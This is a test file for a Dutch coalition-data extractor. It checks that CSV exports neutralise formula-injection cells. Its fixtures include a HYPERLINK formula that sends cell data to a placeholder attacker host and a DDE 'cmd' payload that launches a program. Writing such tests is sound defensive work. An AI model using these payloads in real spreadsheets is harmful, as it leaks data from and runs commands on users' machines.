/**
 * Issue 5: CSV formula injection. Cells that start with `=`, `+`, `-`, `@`, tab or CR (and their
 * full-width forms) get a `'` in front in every CSV (csv-stringify `escape_formulas`);
 * coalitions.json keeps the values as written. Checked with a real CSV parser.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { renderDataset } from '../../src/output/dataset.js';
import type { Result } from '../../src/batch.js';
import { cli, recordOf, tempDir } from '../helpers.js';

const page = `Coalitie in Lisse, Zuid-Holland

Gemeente Lisse

Samen tegen eenzaamheid in Lisse.

Doelen

• =HYPERLINK("http://evil.example/?x="&A1,"klik")
• @SUM(1+1)
• -2+3 minder eenzame ouderen
• +31 procent meer ontmoetingen
• ＝1+1 in volle breedte
• Gewoon doel

Deelnemende organisaties

• =cmd|' /C calc'!A0
• @Stichting Welzijn
• -Bibliotheek Lisse
• +Plus Lisse
• Gewone Organisatie

Contact

wethouder Jan de Vries
E-mail: info@lisse.nl
Telefoon: 06-18417476
`;

const goals = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', '@SUM(1+1)', '-2+3 minder eenzame ouderen', '+31 procent meer ontmoetingen', '＝1+1 in volle breedte', 'Gewoon doel'];
const organizations = ["=cmd|' /C calc'!A0", '@Stichting Welzijn', '-Bibliotheek Lisse', '+Plus Lisse', 'Gewone Organisatie'];
const dangerous = /^[=+\-@\t\r＝＋－＠]/u;
/** What the CSV holds for a value: a `'` in front when it starts like a formula. */
const escaped = (value: string) => (dangerous.test(value) ? `'${value}` : value);

const table = (dir: string, file: string, excel = false): Record<string, string>[] =>
  parse(readFileSync(join(dir, file), 'utf8'), { columns: true, bom: excel, delimiter: excel ? ';' : ',' }) as Record<string, string>[];

describe('CSV formula injection', () => {
  const dir = tempDir();
  mkdirSync(join(dir, 'input'));
  writeFileSync(join(dir, 'input/formules.txt'), page);
  let plain: ReturnType<typeof cli>;
  let excel: ReturnType<typeof cli>;
  beforeAll(() => {
    plain = cli(['extract', '--quiet'], dir);
    excel = cli(['extract', '--quiet', '--csv-excel', '--out', 'excel'], dir);
  });

  test('coalitions.json keeps goals and organisations exactly as written', () => {
    expect([plain.code, plain.stderr]).toEqual([0, '']);
    const [record] = JSON.parse(readFileSync(join(dir, 'output/coalitions.json'), 'utf8')) as { goals: { text: string }[]; organizations: { name: string }[] }[];
    expect(record!.goals.map((g) => g.text)).toEqual(goals);
    expect(record!.organizations.map((o) => o.name)).toEqual(organizations);
  });

  test.each([
    ['output', false],
    ['excel', true],
  ])('%s/: goals.csv and organizations.csv prefix every formula-like cell with `\'`', (out, isExcel) => {
    expect((isExcel ? excel : plain).code).toBe(0);
    const folder = join(dir, out as string);
    expect(table(folder, 'goals.csv', isExcel as boolean).map((row) => row.text)).toEqual(goals.map(escaped));
    expect(table(folder, 'organizations.csv', isExcel as boolean).map((row) => row.name)).toEqual(organizations.map(escaped));
    expect(table(folder, 'goals.csv', isExcel as boolean)[0]!.text).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"klik")');
  });

  test('no cell of any CSV starts like a formula (numbers such as `-2` aside); phones in E.164 get the `\'` too', () => {
    const files = ['coalitions.csv', 'organizations.csv', 'goals.csv', 'targets.csv', 'activities.csv', 'contacts.csv', 'people.csv', 'sections.csv', 'warnings.csv'];
    const unsafe = files.flatMap((file) =>
      (parse(readFileSync(join(dir, 'output', file), 'utf8')) as string[][]).flat().filter((cell) => dangerous.test(cell) && !/^-\d+(?:\.\d+)?$/u.test(cell)).map((cell) => `${file}: ${cell}`),
    );
    expect(unsafe).toEqual([]);
    expect(table(join(dir, 'output'), 'contacts.csv').map((row) => row.phones)).toEqual(["'+31618417476"]);
  });

  test('values starting with a tab or CR (the extraction trims them, so made by hand) are escaped as well', async () => {
    const record = await recordOf(page);
    record.organizations[4]!.name = '\tTAB';
    record.goals[5]!.text = '\rCR';
    const result: Result = { path: 'input.txt', sha256: record.source.sha256, record, rejected: null, findings: [] };
    const files = renderDataset([result], { formats: ['csv'], csvExcel: false, toolVersion: '0.0.0', rulesHash: 'x' });
    const rows = (file: string) => parse(files.get(file)!, { columns: true }) as Record<string, string>[];
    expect(rows('organizations.csv')[4]!.name).toBe("'\tTAB");
    expect(rows('goals.csv')[5]!.text).toBe("'\rCR");
  });
});
